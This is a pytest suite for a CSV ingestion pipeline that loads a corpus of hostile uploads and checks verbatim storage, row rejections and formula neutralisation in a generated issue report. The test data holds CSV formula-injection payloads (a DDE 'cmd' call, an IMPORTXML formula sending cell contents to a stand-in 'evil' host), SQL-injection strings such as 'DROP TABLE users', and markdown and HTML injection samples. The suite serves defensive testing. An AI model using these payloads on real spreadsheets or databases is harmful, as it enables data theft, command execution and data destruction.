"""A corpus of hostile whole files, each loaded into SQLite and PostgreSQL: every accepted row is
in the database exactly once and stored verbatim, every rejected row has an issue row with a
reason, a whole-file problem writes nothing, and the issue report the pipeline writes for people
neutralises every formula while the database keeps the text as uploaded."""

from __future__ import annotations

import csv
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from dagster import instance_for_test, materialize
from sqlalchemy import text

from assets.ingestion import batch_config, ingest_uploads
from loyalty_pipeline.csv_reader import CsvFileError
from loyalty_pipeline.definitions import build_resources
from loyalty_pipeline.reports import write_issue_report
from tests.factories import sqlite_world
from tests.reliability.helpers import NOW, ingest_file, ingestion_violations, record, snapshot

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MEGABYTE = "M" * 1_000_000
EMAIL_254 = "a" * 242 + "@example.com"
EMAIL_255 = "a" * 243 + "@example.com"
COPY_END_MARKER = "before\n\\.\nafter"  # PostgreSQL's COPY end-of-data marker on a line of its own
# 1,000 characters (the cell limit) of incompressible 3-byte text: quoted in a warning's reason, it
# once overflowed the 2,704-byte btree entry of upload_issues' unique index and failed the load.
CJK_1000 = "".join(chr(0x4E00 + (i * 7919) % 20000) for i in range(1000))


@dataclass
class Case:
    content: bytes
    accepted: dict[str, dict] = field(default_factory=dict)  # email -> fields stored verbatim
    rejected: dict[int, str] = field(default_factory=dict)  # line -> part of the reason
    warnings: dict[int, str] = field(default_factory=dict)  # line -> part of the reason
    file_error: str | None = None


def utf8(value: str) -> bytes:
    return value.encode("utf-8")


CORPUS: dict[str, Case] = {
    "bom_crlf": Case(
        b"\xef\xbb\xbfEmail,First Name\r\nann@x.com,Ann\r\n",
        accepted={"ann@x.com": {"first_name": "Ann"}},
    ),
    "windows_1252": Case(
        "email,first_name,last_name\r\nchloe@x.com,Chloé,“Co” – Ünal\r\n".encode("cp1252"),
        accepted={"chloe@x.com": {"first_name": "Chloé", "last_name": "“Co” – Ünal"}},
    ),
    "utf16_with_bom": Case(
        "email,first_name\r\nu@x.com,Ünal\r\n".encode("utf-16"),
        accepted={"u@x.com": {"first_name": "Ünal"}},
    ),
    "quoted_newlines_and_quotes": Case(
        utf8(
            'email,first_name,last_name\r\na@x.com,"Line1\r\nLine2","O""Brien, Jr"\r\n'
            'b@x.com,B,\r\nnot-an-email,"multi\nline",x\r\n'
        ),
        accepted={
            "a@x.com": {"first_name": "Line1\r\nLine2", "last_name": 'O"Brien, Jr'},
            "b@x.com": {"first_name": "B"},
        },
        rejected={4: "email is not a valid address"},  # the spreadsheet row, not the physical line
    ),
    "old_mac_cr_only": Case(
        b"email,first_name\ra@x.com,A\rb@x.com,B\r",
        accepted={"a@x.com": {"first_name": "A"}, "b@x.com": {"first_name": "B"}},
    ),
    "ragged_rows": Case(
        b"email,first_name\na@x.com\nb@x.com,B,extra\nc@x.com,C,,\n=1+2,x,y,z\n",
        accepted={"a@x.com": {"first_name": None}, "c@x.com": {"first_name": "C"}},
        rejected={3: "3 fields but the header has 2", 5: "4 fields but the header has 2"},
    ),
    # "E-Mail" is "email" once case and punctuation are set aside: which of the two is the address?
    "duplicate_headers": Case(b"email,E-Mail,first_name\na@x.com,b@x.com,A\n", file_error="duplicate column names"),
    # Two different names of one field: each row takes the first non-empty in the table's order.
    "two_birthday_columns": Case(
        b"dob,Birthday,email\n,03/14,a@x.com\n1990-01-01,03/14,b@x.com\n",
        accepted={"a@x.com": {"birth_month": 3, "birth_day": 14}, "b@x.com": {"birth_month": 1, "birth_day": 1}},
    ),
    "no_email_column": Case(b"name,phone\nAnn,1\n", file_error="no email column"),
    "a_workbook_not_a_csv": Case(b"PK\x03\x04\x14\x00\x06\x00[Content_Types].xml", file_error="not a CSV file"),
    "empty": Case(b"\xef\xbb\xbf  \r\n", file_error="the file is empty"),
    "header_only": Case(b"\xef\xbb\xbfemail,first_name\r\n"),
    "nul_bytes": Case(
        b"email,first_name\na@x.com,A\x00nn\n\x00b@x.com,B\x00\n",
        accepted={"a@x.com": {"first_name": "Ann"}, "b@x.com": {"first_name": "B"}},
    ),
    "megabyte_cells": Case(
        utf8(f"email,first_name,last_name\na@x.com,{MEGABYTE},x\n{MEGABYTE}@x.com,X,\nc@x.com,C,{'L' * 1000}\n"),
        accepted={"c@x.com": {"first_name": "C", "last_name": "L" * 1000}},
        rejected={2: "cell longer than 1000 characters", 3: "email longer than 254 characters"},
    ),
    "long_emails": Case(
        utf8(f"email\n{EMAIL_254}\n{EMAIL_255}\n{'b' * 300}@example.com\n"),
        accepted={EMAIL_254: {}},
        rejected={3: "email longer than 254 characters", 4: "email longer than 254 characters"},
    ),
    "formula_cells": Case(
        utf8(
            "email,first_name,last_name,phone,dob\n"
            'f1@x.com,"=HYPERLINK(""http://evil.example"",""click"")",+1+1,-2+3,@SUM(A1)\n'
            "f2@x.com,@SUM(A1:A9),-cmd,+12125550100,=1+1\n"
            '"=HYPERLINK(""http://evil.example"")",x,y,,\n'
            "=cmd|' /C calc'!A0@x.com,=2+5,\t=tab,,\n"
            '-x@x.com,"=IMPORTXML(CONCAT(""http://evil/?"",A1),""//a"")",@me,,\n'
        ),
        accepted={
            "f1@x.com": {
                "first_name": '=HYPERLINK("http://evil.example","click")',
                "last_name": "+1+1",
                "phone_number": None,
            },
            "f2@x.com": {"first_name": "@SUM(A1:A9)", "last_name": "-cmd", "phone_number": "+12125550100"},
            "-x@x.com": {"first_name": '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")', "last_name": "@me"},
        },
        rejected={4: "email is not a valid address", 5: "email is not a valid address"},
        warnings={2: "", 3: "birth_date"},
    ),
    "sql_looking_text": Case(
        utf8(
            "email,first_name,last_name\n"
            "o'reilly@x.com,Robert'); DROP TABLE users;--,1' OR '1'='1\n"
            f'pct@x.com,%s %(email)s :email $1 ?,"{COPY_END_MARKER}"\n'
            "x@x.com'; DROP TABLE users;--,x,y\n"
            'slash@x.com,\\N,"\\."\n'
        ),
        accepted={
            "o'reilly@x.com": {"first_name": "Robert'); DROP TABLE users;--", "last_name": "1' OR '1'='1"},
            "pct@x.com": {"first_name": "%s %(email)s :email $1 ?", "last_name": COPY_END_MARKER},
            "slash@x.com": {"first_name": "\\N", "last_name": "\\."},
        },
        rejected={4: "email is not a valid address"},
    ),
    "rtl_emoji_and_unicode_names": Case(
        utf8(
            "email,first_name,last_name\n"
            "maryam@x.com,مريم,כהן\n"
            "family@x.com,👩‍👩‍👧‍👦,Zoë 🎂\n"
            "rlo@x.com,\u202egnp.exe,İstanbul ß Σ\n"
            "ctrl@x.com,Bell\x07,\x1b[31mRed\n"
        ),
        accepted={
            "maryam@x.com": {"first_name": "مريم", "last_name": "כהן"},
            "family@x.com": {"first_name": "👩‍👩‍👧‍👦", "last_name": "Zoë 🎂"},
            "rlo@x.com": {"first_name": "\u202egnp.exe", "last_name": "İstanbul ß Σ"},
            "ctrl@x.com": {"first_name": "Bell\x07", "last_name": "\x1b[31mRed"},
        },
    ),
    "thousand_character_unicode_cells": Case(
        utf8(f"email,first_name,dob,phone\ncjk@x.com,{CJK_1000},{CJK_1000},{CJK_1000}\nok@x.com,Ok,,\n"),
        accepted={"cjk@x.com": {"first_name": CJK_1000, "birth_month": None, "phone_number": None}, "ok@x.com": {}},
        warnings={2: "birth_date"},
    ),
    "blank_and_whitespace_rows": Case(
        b"email,first_name\n\n  ANN@X.COM  ,  Ann  \n,\n   \n",
        accepted={"ann@x.com": {"first_name": "Ann"}},
        rejected={4: "email", 5: "email"},
    ),
}


def _stored_users(engine) -> dict[str, dict]:
    with engine.connect() as conn:
        return {row["email"]: dict(row) for row in conn.execute(text("SELECT * FROM users")).mappings()}


def _issues(engine, key) -> list[tuple]:
    with engine.connect() as conn:
        return conn.execute(
            text(
                'SELECT line, "column", value, severity, reason FROM upload_issues WHERE upload_key = :k ORDER BY line'
            ),
            {"k": key},
        ).all()


def _count(engine, table) -> int:
    with engine.connect() as conn:
        return conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_file(name, engine, program, tmp_path):
    record(cases_tried=1)
    case = CORPUS[name]
    path = tmp_path / program.slug / f"{name.replace('_', '-')}.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(case.content)

    if case.file_error:
        with pytest.raises(CsvFileError) as error:
            ingest_file(engine, program, path)
        assert str(error.value).startswith(f"{program.slug}/{path.name}: ") and case.file_error in str(error.value)
        assert len(str(error.value).splitlines()) == 1
        for table in ("uploads", "upload_issues", "users", "passes_master"):
            assert _count(engine, table) == 0, table
        return

    loaded = ingest_file(engine, program, path)
    assert ingestion_violations(engine, [(loaded.key, program, loaded.validated)]) == []

    users = _stored_users(engine)
    assert set(users) == set(case.accepted)
    for email, fields in case.accepted.items():
        for column, value in fields.items():
            assert users[email][column] == value, (email, column)
    assert _count(engine, "passes_master") == len(case.accepted)

    issues = _issues(engine, loaded.key)
    errors = {line: reason for line, _, _, severity, reason in issues if severity == "error"}
    assert set(errors) == set(case.rejected)
    for line, reason in case.rejected.items():
        assert reason in errors[line]
    warnings = [(line, reason) for line, _, _, severity, reason in issues if severity == "warning"]
    for line, reason in case.warnings.items():
        assert any(w_line == line and reason in w_reason for w_line, w_reason in warnings), (line, warnings)

    # The report for people: same issues, formulas neutralised, text otherwise unchanged.
    report = write_issue_report(loaded.validated.issues, tmp_path / "reports" / f"{name}.issues.csv")
    with report.open(newline="", encoding="utf-8") as handle:
        reported = list(csv.DictReader(handle))
    assert len(reported) == len(issues)
    by_key = {(int(r["line"]), r["column"], r["reason"]): r for r in reported}
    for line, column, value, _severity, reason in issues:
        row = by_key[(line, column, reason)]
        for cell in row.values():
            assert not cell.startswith(FORMULA_START), cell
        stored = value or ""
        assert row["value"] == ("'" + stored if stored.startswith(FORMULA_START) else stored)

    # Loading the same file again changes nothing.
    before = snapshot(engine)
    ingest_file(engine, program, path)
    assert snapshot(engine) == before


def test_the_ingestion_assets_store_formulas_verbatim_and_write_a_neutralised_report(tmp_path):
    """End to end through Dagster: the report file the ingestion writes for each file."""
    record(cases_tried=1)
    settings, engine = sqlite_world(tmp_path)
    key = "joes-pizza/formulas.csv"
    target = settings.uploads_dir / key
    target.parent.mkdir(parents=True)
    target.write_bytes(CORPUS["formula_cells"].content)
    with instance_for_test() as instance:
        result = materialize(
            [ingest_uploads],
            partition_key="2026-11-26",
            instance=instance,
            run_config=batch_config([key]),
            resources=build_resources(settings, frozen_now=NOW.isoformat()),
        )
    assert result.success
    report = Path(
        next(
            e.event_specific_data.materialization.metadata["per_file"].records[0].data["issues_report"]
            for e in result.get_asset_materialization_events()
            if e.event_specific_data.materialization.asset_key.to_user_string() == "validated_users"
        )
    )
    assert report.is_file() and report.resolve().is_relative_to(settings.reports_dir.resolve())
    with report.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
    assert '\'=hyperlink("http://evil.example")' in cells
    users = _stored_users(engine)
    assert users["f1@x.com"]["first_name"] == '=HYPERLINK("http://evil.example","click")'
    assert users["-x@x.com"]["last_name"] == "@me"
    engine.dispose()


def test_customer_text_in_run_metadata_cannot_inject_markdown_links_or_images():
    import polars as pl

    from assets.metadata import markdown_table

    record(cases_tried=1)
    frame = pl.DataFrame(
        {
            "line": [2, 3, 4],
            "value": [
                "[verify your account](http://evil.example/login)",
                "![](http://evil.example/pixel.png)",
                "<img src=x onerror=alert(1)>",
            ],
        }
    )
    rendered = markdown_table(frame)
    assert "](http" not in rendered and "<img" not in rendered
